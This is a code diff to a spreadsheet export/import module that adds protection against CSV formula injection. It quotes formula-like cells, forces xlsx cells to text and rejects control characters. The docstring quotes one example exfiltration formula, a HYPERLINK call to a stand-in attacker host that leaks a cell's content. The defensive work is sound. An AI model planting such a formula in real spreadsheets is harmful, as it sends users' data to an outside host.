@@ -9,6 +9,12 @@ dialog (LibreOffice guesses a CSV's charset wrong). Sheets carry ``document_id``
 ``revision`` they were made from, so importing an edited sheet updates those documents instead of
 adding them again.
 
+Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
+before one) as a formula: a prompt such as ``=HYPERLINK("http://evil.example/?x="&A1)`` would send
+a student's text away on a click. xlsx cells are therefore all written as text; a CSV cannot say
+"text", so such a cell gets a leading ``'`` (the OWASP CSV-injection rule), which
+:func:`read_table` takes off again: export, edit, import gives back exactly what was exported.
+
 Readers never stop at a bad line: they yield it with its line number and what is wrong, so a
 validator can name ``FILE:LINE`` and still check the rest.
 """
@@ -23,7 +29,7 @@ from pathlib import Path
 from typing import Any
 
 
-from examkit.errors import InputFileError
+from examkit.errors import InputFileError, UserInputError
 from examkit.files import atomic_write_bytes
 
 PROMPT_COLUMNS = ("prompt", "completion")
@@ -31,6 +37,24 @@ PROMPT_COLUMNS = ("prompt", "completion")
 SHEET_COLUMNS = ("document_id", "revision", *PROMPT_COLUMNS)
 #: Columns a sheet may have besides the prompt/completion pair (read when present).
 OPTIONAL_COLUMNS = ("document_id", "revision")
+#: What makes a spreadsheet read a cell as a formula (OWASP's CSV-injection list).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _formula_like(text: str) -> bool:
+    """True when ``text``, after any leading ``'``, starts like a formula: such a cell is quoted in
+    CSV, and a quoted one gets one more ``'``, so unquoting is exact."""
+    return text.lstrip("'").startswith(FORMULA_START)
+
+
+def neutralise(value: Any) -> Any:
+    """A CSV cell a spreadsheet shows as text: ``'`` before anything formula-like."""
+    return "'" + value if isinstance(value, str) and _formula_like(value) else value
+
+
+def restore(text: str) -> str:
+    """The cell :func:`neutralise` was given (the inverse; other text is returned as it is)."""
+    return text[1:] if text.startswith("'") and _formula_like(text[1:]) else text
 
 
 @dataclass(frozen=True)
@@ -95,7 +119,7 @@ def _frame(rows: list[dict[str, Any]]):
 
 def csv_bytes(rows: list[dict[str, Any]], *, excel: bool = False) -> bytes:
     """Sheet rows (:data:`SHEET_COLUMNS`) as CSV; ``excel``: UTF-8 with BOM and ``;`` separators."""
-    frame = _frame(rows)
+    frame = _frame(rows).map(neutralise)
     buffer = io.StringIO()
     frame.to_csv(buffer, index=False, sep=";" if excel else ",", lineterminator="\r\n" if excel else "\n")
     return buffer.getvalue().encode("utf-8-sig" if excel else "utf-8")
@@ -106,10 +130,18 @@ def write_csv(path: str | Path, rows: list[dict[str, Any]], *, excel: bool = Fal
 
 
 def xlsx_bytes(rows: list[dict[str, Any]]) -> bytes:
-    """Sheet rows as an Excel workbook: wrapped text, wide text columns, the header frozen."""
+    """Sheet rows as an Excel workbook: every cell text (never a formula), wrapped text, wide text
+    columns, the header frozen."""
     import pandas as pd
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
     from openpyxl.styles import Alignment
 
+    for row in rows:
+        for column, value in row.items():
+            if isinstance(value, str) and (bad := ILLEGAL_CHARACTERS_RE.search(value)):
+                raise UserInputError(f"{row.get('document_id') or 'a row'}: the {column} holds a control character "
+                                     f"(U+{ord(bad.group()):04X}) that xlsx cannot store",
+                                     advice="Correct the text in the review, or export as csv.")
     buffer = io.BytesIO()
     frame = _frame(rows)
     with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
@@ -119,9 +151,13 @@ def xlsx_bytes(rows: list[dict[str, Any]]) -> bytes:
         for index, column in enumerate(frame.columns):
             letter = sheet.cell(row=1, column=index + 1).column_letter
             sheet.column_dimensions[letter].width = 80 if column in PROMPT_COLUMNS else 28
-        for row in sheet.iter_rows(min_row=2):
+        for row in sheet.iter_rows():
             for cell in row:
-                cell.alignment = Alignment(wrap_text=True, vertical="top")
+                if cell.value is not None:
+                    cell.value = str(cell.value)
+                    cell.data_type = "s"  # after the value: openpyxl makes "=..." a formula
+                if cell.row > 1:
+                    cell.alignment = Alignment(wrap_text=True, vertical="top")
     return buffer.getvalue()
 
 
@@ -161,6 +197,7 @@ def read_table(path: str | Path, columns: tuple[str, ...] = PROMPT_COLUMNS) -> T
                 text = raw.decode("cp1252", errors="replace")
                 warnings.append(f"{path}: not UTF-8, read as Windows-1252 (cp1252); check umlauts in the result")
             frame = pd.read_csv(io.StringIO(text), sep=None, engine="python", dtype=str, keep_default_na=False)
+            frame = frame.map(restore)
     except OSError as exc:
         raise InputFileError(path, f"cannot read ({exc.strerror})") from exc
     except (ValueError, pd.errors.ParserError) as exc:
